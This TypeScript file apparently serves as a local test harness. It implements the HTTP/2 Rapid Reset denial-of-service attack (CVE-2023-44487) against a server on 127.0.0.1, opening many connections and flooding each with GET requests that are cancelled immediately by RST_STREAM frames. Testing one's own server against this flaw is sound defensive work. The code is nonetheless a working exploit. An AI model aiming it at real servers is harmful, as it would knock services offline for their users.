import { connect, type Socket } from 'node:net';
import { block, END_STREAM_AND_HEADERS, frame, HEADERS, PREFACE, RST_STREAM, SETTINGS } from './h2-frames.js';

/** RST_STREAM's CANCEL error code, as a frame payload. */
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** Frames per write: large enough to keep the sidecar busy, small enough to let it read between them. */
const BATCH = 100;

/** The header block of a request to `/` with `method`. */
export function requestBlock(method: string): Buffer {
  return block([
    [':method', method],
    [':path', '/'],
    [':scheme', 'http'],
    [':authority', 'attack'],
  ]);
}

/** An HTTP/2 connection with prior knowledge to 127.0.0.1:`port` that reads and drops whatever the sidecar sends. */
export async function attacker(port: number): Promise<Socket> {
  const socket = connect(port, '127.0.0.1');
  socket.on('error', () => {});
  socket.resume();
  await new Promise<void>((resolve, reject) => socket.once('connect', resolve).once('error', reject));
  socket.write(Buffer.concat([Buffer.from(PREFACE, 'latin1'), frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
  return socket;
}

/** Writes `frames(id)` for `count` client stream ids (1, 3, 5...) in batches, waiting for each batch to be written. */
export async function writeStreams(socket: Socket, count: number, frames: (id: number) => Buffer[]): Promise<void> {
  for (let first = 0; first < count && !socket.destroyed; first += BATCH) {
    const batch: Buffer[] = [];
    for (let i = first; i < Math.min(count, first + BATCH); i++) batch.push(...frames(2 * i + 1));
    if (!socket.write(Buffer.concat(batch))) await new Promise((resolve) => socket.once('drain', resolve));
  }
}

/**
 * Rapid reset (CVE-2023-44487): `connections` connections to 127.0.0.1:`port`,
 * each sending `resets` GET requests each followed at once by RST_STREAM
 * CANCEL; the connections are destroyed once everything is written.
 */
export async function rapidReset(port: number, connections: number, resets: number): Promise<void> {
  const sockets = await Promise.all(Array.from({ length: connections }, () => attacker(port)));
  const get = requestBlock('GET');
  await Promise.all(sockets.map((socket) => writeStreams(socket, resets, (id) => [frame(HEADERS, END_STREAM_AND_HEADERS, id, get), frame(RST_STREAM, 0, id, CANCEL)])));
  for (const socket of sockets) socket.destroy();
}
